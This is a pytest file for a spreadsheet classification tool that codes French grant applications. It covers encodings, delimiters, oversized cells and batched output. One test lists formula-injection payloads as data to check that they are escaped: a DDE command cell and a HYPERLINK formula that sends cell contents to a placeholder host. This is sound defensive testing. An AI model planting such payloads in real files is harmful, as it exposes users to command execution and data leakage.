"""`cdv classify` on spreadsheets as French offices write them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from assistant.classify import classify_file, read_table
from corpus import Contract
from index import Searcher, SearchSettings


@pytest.fixture(scope="module")
def lexical(caph: Contract) -> Searcher:
    return Searcher([caph], None, SearchSettings(retriever="lexical"))


def test_semicolon_windows_1252(tmp_path: Path, lexical: Searcher) -> None:
    """A `;`-separated Windows-1252 file is read, classified and written back in the same dialect."""
    path = tmp_path / "appel.csv"
    path.write_bytes("porteur;résumé\nAsso A;Chantier d'insertion espaces verts\nAsso B;\n".encode("cp1252"))
    out = tmp_path / "out.csv"
    assert classify_file(lexical, path, "résumé", out) == 1
    rows = list(csv.DictReader(out.read_text(encoding="cp1252").splitlines(), delimiter=";"))
    assert rows[0]["code_suggere"] == "2.1.1" and rows[0]["porteur"] == "Asso A"
    assert rows[1]["code_suggere"] == ""  # empty row kept, not classified


def test_an_xlsx_export_is_classified_into_a_csv_excel_opens(tmp_path: Path, lexical: Searcher) -> None:
    """A list of applications exported as XLSX (a short row, an unnamed column) is classified and written
    as a `;` CSV in UTF-8 with a byte-order mark."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["porteur", "résumé", None])
    sheet.append(["Asso A", "Chantier d'insertion espaces verts", "note"])
    sheet.append(["Asso B"])
    path = tmp_path / "appel.xlsx"
    book.save(path)
    out = tmp_path / "appel-classe.csv"
    assert classify_file(lexical, path, "résumé", out) == 1
    assert out.read_bytes().startswith("\ufeff".encode())
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert [r["code_suggere"] for r in rows] == ["2.1.1", ""]
    assert rows[0]["colonne 3"] == "note" and rows[1]["porteur"] == "Asso B"


def test_comma_utf8(tmp_path: Path, lexical: Searcher) -> None:
    """A `,`-separated UTF-8 file works too, and quoted commas inside a cell are kept."""
    path = tmp_path / "appel.csv"
    path.write_text('titre,texte\n"Projet 1","Lutte contre les marchands de sommeil, habitat indigne"\n', "utf-8")
    header, rows, delimiter, encoding = read_table(path)
    assert (header, delimiter, encoding) == (["titre", "texte"], ",", "utf-8")
    assert rows[0]["texte"] == "Lutte contre les marchands de sommeil, habitat indigne"
    out = tmp_path / "out.csv"
    classify_file(lexical, path, "texte", out)
    assert next(csv.DictReader(out.open(encoding="utf-8")))["code_suggere"] == "4.3.2"


def test_missing_column_lists_the_columns(tmp_path: Path, lexical: Searcher) -> None:
    """Naming a column that does not exist fails with the list of columns."""
    path = tmp_path / "appel.csv"
    path.write_text("a;b\n1;2\n", encoding="utf-8")
    with pytest.raises(ValueError, match="pas de colonne 'texte' ; les colonnes sont : a, b"):
        classify_file(lexical, path, "texte", tmp_path / "out.csv")


def test_cli_classify(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`cdv classify` writes FILE-classe.csv next to the input and reports the row count."""
    from assistant.cli import main

    monkeypatch.setenv("CDV_CACHE_DIR", str(tmp_path / "cache"))
    path = tmp_path / "appel.csv"
    path.write_text("titre;résumé\nP1;aide aux devoirs pour les collégiens\n", encoding="utf-8")
    assert main(["classify", str(path), "--column", "résumé"]) == 0
    assert "1 lignes classées" in capsys.readouterr().out
    row = next(csv.DictReader((tmp_path / "appel-classe.csv").open(encoding="utf-8"), delimiter=";"))
    assert row["code_suggere"] == "5.2.2"
    assert main(["classify", str(path), "--column", "nope", "--force"]) == 2
    assert "pas de colonne 'nope'" in capsys.readouterr().err


def test_a_very_long_cell_is_read(tmp_path: Path, lexical: Searcher) -> None:
    """A project text over the csv module's default 131,072-character limit is classified, not a crash."""
    path = tmp_path / "long.csv"
    long_text = "Chantier d'insertion pour les femmes du quartier. " * 4000  # 200,000 characters
    path.write_text(f"id;résumé\n1;{long_text}\n", encoding="utf-8")
    assert classify_file(lexical, path, "résumé", tmp_path / "out.csv") == 1
    row = read_table(tmp_path / "out.csv")[1][0]
    assert row["code_suggere"] == "2.1.1"
    assert row["remarque"] == "texte tronqué à 2000 caractères"


def test_a_cell_past_the_limit_names_its_line(tmp_path: Path) -> None:
    """Past the raised limit the error names the file and the line, not a traceback."""
    from assistant.classify import MAX_CELL_CHARS

    path = tmp_path / "huge.csv"
    path.write_text(f'id;résumé\n1;court\n2;"{"x" * (MAX_CELL_CHARS + 10)}"\n', encoding="utf-8")
    with pytest.raises(ValueError, match=r"huge.csv: ligne \d+: .*au plus 1,000,000 caractères"):
        read_table(path)


def test_cells_that_read_as_formulas_are_written_as_text(tmp_path: Path, lexical: Searcher) -> None:
    """An application's cell such as `=HYPERLINK(…)`, `=cmd|' /C calc'!A0`, `+1+1`, `-2`, `@SUM(…)`, or one
    starting with a tab, is written with a leading apostrophe: opened in a spreadsheet it shows, never runs."""
    hostile = ['=HYPERLINK("http://x/?"&A1,"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1:A9)", "\tx"]
    path = tmp_path / "appel.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream, delimiter=";")
        writer.writerow(["porteur", "résumé"])
        writer.writerows([cell, "chantier d'insertion"] for cell in hostile)
    out = tmp_path / "out.csv"
    assert classify_file(lexical, path, "résumé", out) == len(hostile)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines(), delimiter=";"))
    assert [row["porteur"] for row in rows] == [f"'{cell}" for cell in hostile]
    assert all(row["code_suggere"] == "2.1.1" for row in rows)


@pytest.mark.slow
def test_the_output_says_how_sure_and_why_a_row_is_refused(tmp_path: Path, default_searcher: Searcher) -> None:
    """Each row gets a confidence label; a refused row has no objective, no axis, and says which kind of
    service usually handles it; an existing output file is kept unless --force."""
    from assistant.cli import main

    path = tmp_path / "appel.csv"
    path.write_text("résumé\nChantier d'insertion espaces verts\nrenouveler mon passeport\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    classify_file(default_searcher, path, "résumé", out)
    first, refused = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines(), delimiter=","))
    assert first["code_suggere"] == "2.1.1" and first["certitude"] in {"sûr", "assez sûr", "peu sûr"}
    assert refused["hors_contrat"] == "oui" and refused["code_suggere"] == refused["axe"] == ""
    assert refused["autres_codes"] == "" and refused["remarque"].startswith("relève plutôt de : ")
    arguments = ["classify", str(path), "--column", "résumé", "--out", str(out)]
    assert main(arguments) == 2
    assert out.read_text(encoding="utf-8").count("\n") == 3  # untouched


def test_a_broken_or_ambiguous_table_is_refused_with_its_line(tmp_path: Path, lexical: Searcher) -> None:
    """An unclosed quote (which would swallow every later row), a column name given twice (the second would
    overwrite the first) are refused with the line; Excel's UTF-16 "Unicode text" is read as such."""
    path = tmp_path / "appel.csv"
    path.write_text("porteur;résumé\nA;\"chantier d'insertion\nB;aide aux devoirs\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"ligne \d+: unexpected end of data .*guillemet"):
        read_table(path)
    path.write_text("résumé;résumé\nx;y\n", encoding="utf-8")
    with pytest.raises(ValueError, match="ligne 1: colonne en double : résumé"):
        read_table(path)
    path.write_text("porteur\trésumé\nA\tChantier d'insertion espaces verts\n", encoding="utf-16")
    header, rows, delimiter, _ = read_table(path)
    assert (header, delimiter, rows[0]["résumé"]) == (["porteur", "résumé"], "\t", "Chantier d'insertion espaces verts")
    out = tmp_path / "out.csv"
    assert classify_file(lexical, path, "résumé", out) == 1


def test_rows_are_written_as_they_are_classified(tmp_path: Path, lexical: Searcher) -> None:
    """A long file is classified a batch at a time: progress after each batch, and what is done is already
    on disk (`.partiel`) when a later batch fails; the finished file replaces it."""
    from assistant.classify import BATCH

    path = tmp_path / "appel.csv"
    lines = [f"P{n};chantier d'insertion numéro {n}" for n in range(2 * BATCH + 5)]
    path.write_text("titre;résumé\n" + "\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    seen: list[tuple[int, int]] = []
    assert classify_file(lexical, path, "résumé", out, progress=lambda done, total: seen.append((done, total))) == len(
        lines
    )
    total = len(lines)
    assert seen == [(BATCH, total), (2 * BATCH, total), (total, total)]
    assert len(list(csv.DictReader(out.open(encoding="utf-8"), delimiter=";"))) == total
    assert not (tmp_path / "out.csv.partiel").exists()

    calls = 0

    class Failing:
        def search_many(self, texts: list[str], **options: object) -> object:
            nonlocal calls
            calls += 1
            if calls == 2:
                raise KeyboardInterrupt  # the user stops it during the second batch
            return lexical.search_many(texts, **options)  # type: ignore[arg-type]

    with pytest.raises(KeyboardInterrupt):
        classify_file(Failing(), path, "résumé", tmp_path / "stopped.csv")  # type: ignore[arg-type]
    partial = tmp_path / "stopped.csv.partiel"
    assert len(list(csv.DictReader(partial.open(encoding="utf-8"), delimiter=";"))) == BATCH
    assert not (tmp_path / "stopped.csv").exists()
